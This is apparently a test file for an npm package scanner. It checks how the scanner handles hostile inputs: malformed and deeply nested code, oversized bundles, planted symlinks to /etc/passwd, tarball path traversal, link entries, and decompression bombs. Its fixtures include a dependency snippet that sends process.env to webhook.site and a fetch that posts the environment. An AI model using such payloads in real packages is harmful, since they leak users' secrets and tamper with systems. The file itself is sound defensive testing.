import assert from "node:assert/strict";
import { mkdtemp, readdir, rm, symlink, writeFile, mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { scanPackageDir } from "../../src/scan/scan-package.js";
import { scanTarball } from "../../src/scan/tarball.js";
import { FileAnalyzerPool } from "../../src/scan/worker/pool.js";
import { fileFindings, makePackage, manifest, ofRule, scanFiles } from "./helpers.js";
import { makeTarGz, type TarFixtureEntry } from "./tar-writer.js";

async function scanTgz(entries: TarFixtureEntry[] | Buffer) {
  const dir = await mkdtemp(join(tmpdir(), "cordon-tgz-test-"));
  try {
    const path = join(dir, "fixture.tgz");
    await writeFile(path, Buffer.isBuffer(entries) ? entries : makeTarGz(entries));
    return { report: await scanTarball(path, { cache: false }), dir, listing: await readdir(dir) };
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe("hostile files", () => {
  it("reports a file that does not parse and keeps going", () => {
    const findings = fileFindings("function ( { eval(atob('eA==')) ");
    assert.ok(ofRule(findings, "hostile-input").some((f) => /does not parse/.test(f.message)));
  });

  it("survives code nested deep enough to overflow a recursive parser", () => {
    const depth = 200_000;
    const findings = fileFindings(`x = ${"(".repeat(depth)}1${")".repeat(depth)}; eval(y);`, { installTime: true });
    assert.ok(ofRule(findings, "hostile-input", "medium").some((f) => /nested too deeply/.test(f.message)), JSON.stringify(findings));
  });

  it("walks deeply nested code the parser accepts without a stack overflow", () => {
    const depth = 3_000;
    const findings = fileFindings(`const a = ${"[".repeat(depth)}process.env${"]".repeat(depth)}; fetch(u, { body: JSON.stringify(process.env) });`);
    assert.ok(ofRule(findings, "env-harvest").length > 0 || ofRule(findings, "hostile-input").length > 0);
  });

  it("does not parse a 50 MB minified bundle but still reports it, within seconds", async () => {
    const line = "var a=function(b){return b+1};";
    const big = `${line.repeat(Math.ceil((50 << 20) / line.length))}eval(atob("eA=="));`;
    const started = Date.now();
    const report = await scanFiles({ "package.json": manifest({}), "dist/bundle.js": big }, { workers: 1 });
    assert.ok(ofRule(report.findings, "hostile-input").some((f) => /not parsed/.test(f.message)));
    assert.ok(Date.now() - started < 20_000, `took ${Date.now() - started} ms`);
  });

  it("stops a file that takes longer than the per-file limit, reports it, and still analyzes the rest of its batch", async () => {
    const pkg = await makePackage({ "slow.js": "eval(atob(x));\n".repeat(400_000), "ok.js": "eval(atob(y));" });
    try {
      await using pool = new FileAnalyzerPool({ size: 1, fileTimeoutMs: 500 });
      const ref = (path: string) => ({ path, absolute: join(pkg.dir, path), installTime: false, isJavaScript: true, shellScript: false });
      const [slow, ok] = await pool.analyze([ref("slow.js"), ref("ok.js")]);
      assert.ok(slow!.findings.some((f) => f.rule === "hostile-input" && /longer than/.test(f.message)), JSON.stringify(slow!.findings));
      assert.ok(ok!.findings.some((f) => f.rule === "obfuscation"), "the other file of the batch is analyzed after the retry");
    } finally {
      await pkg.cleanup();
    }
  });

  it("does not follow a symbolic link planted in a package folder", async () => {
    const pkg = await makePackage({ "package.json": manifest({}) });
    try {
      await symlink("/etc/passwd", join(pkg.dir, "index.js"));
      await mkdir(join(pkg.dir, "lib"));
      await symlink("/", join(pkg.dir, "lib", "root"));
      const report = await scanPackageDir(pkg.dir, { cache: false });
      assert.equal(ofRule(report.findings, "hostile-input").filter((f) => /symbolic link/.test(f.message)).length, 2);
      assert.equal(report.stats.files, 1);
    } finally {
      await pkg.cleanup();
    }
  });
});

describe("hostile tarballs", () => {
  const pkgJson = { path: "package/package.json", content: manifest({}) };

  it("refuses a path that climbs out of the package (..) and writes nothing outside", async () => {
    const { report, listing } = await scanTgz([pkgJson, { path: "package/../../escaped.js", content: "x" }]);
    assert.ok(ofRule(report.findings, "hostile-input", "critical").some((f) => /path traversal/.test(f.message)));
    assert.deepEqual(listing, ["fixture.tgz"]);
    assert.equal(report.verdict, "malicious");
  });

  it("refuses absolute paths", async () => {
    const { report } = await scanTgz([pkgJson, { path: "/tmp/cordon-absolute-escape.js", content: "x" }]);
    assert.ok(ofRule(report.findings, "hostile-input", "critical").length > 0);
  });

  it("does not create symbolic or hard links from the archive", async () => {
    const { report } = await scanTgz([
      pkgJson,
      { path: "package/link", type: "2", linkTarget: "/etc" },
      { path: "package/link/passwd", content: "overwritten" },
      { path: "package/hard", type: "1", linkTarget: "/etc/passwd" },
    ]);
    const links = ofRule(report.findings, "hostile-input", "high").filter((f) => /link/.test(f.message));
    assert.equal(links.length, 2);
  });

  it("stops a decompression bomb and reports it", async () => {
    const { gzipSync } = await import("node:zlib");
    const bomb = gzipSync(Buffer.alloc(80 << 20));
    const { report } = await scanTgz(bomb);
    assert.ok(ofRule(report.findings, "hostile-input", "high").some((f) => /decompression bomb/.test(f.message)));
    assert.equal(report.verdict, "suspicious");
  });

  it("reports a corrupt archive instead of crashing", async () => {
    const { gzipSync } = await import("node:zlib");
    const { report } = await scanTgz(gzipSync(Buffer.alloc(2048, 0x41)));
    assert.ok(ofRule(report.findings, "hostile-input", "high").some((f) => /malformed/.test(f.message)));
  });

  it("scans what a well-formed tarball holds, bundled dependencies included", async () => {
    const { report } = await scanTgz([
      pkgJson,
      { path: "package/node_modules/dep/index.js", content: "require('https').request({ host: 'webhook.site' }).end(JSON.stringify(process.env));" },
    ]);
    assert.equal(report.verdict, "malicious");
  });
});

describe("pre-filter on text built to make it slow", () => {
  it("stays linear on long identifiers, space runs and near-miss tokens (2 MB each, well under a second)", async () => {
    const { mayMatterBytes } = await import("../../src/scan/prefilter.js");
    const shapes = [
      `fetch(x); ${`os${"o".repeat(4000)}.hostname `.repeat(500)}`,
      `require("https"); ${`a:${" ".repeat(4000)}process.en `.repeat(500)}`,
      `curl ${"x".repeat(190)} ${"| ".repeat(1_000_000)}`,
      `x${" ".repeat(149)}`.repeat(13_000),
      `eval(${"Buffer.fro(".repeat(200_000)}`,
    ];
    for (const shape of shapes) {
      const started = performance.now();
      mayMatterBytes(Buffer.from(shape));
      const ms = performance.now() - started;
      assert.ok(ms < 250, `${ms.toFixed(0)} ms for a ${(shape.length / 1e6).toFixed(1)} MB shape starting ${JSON.stringify(shape.slice(0, 30))}`);
    }
  });
});
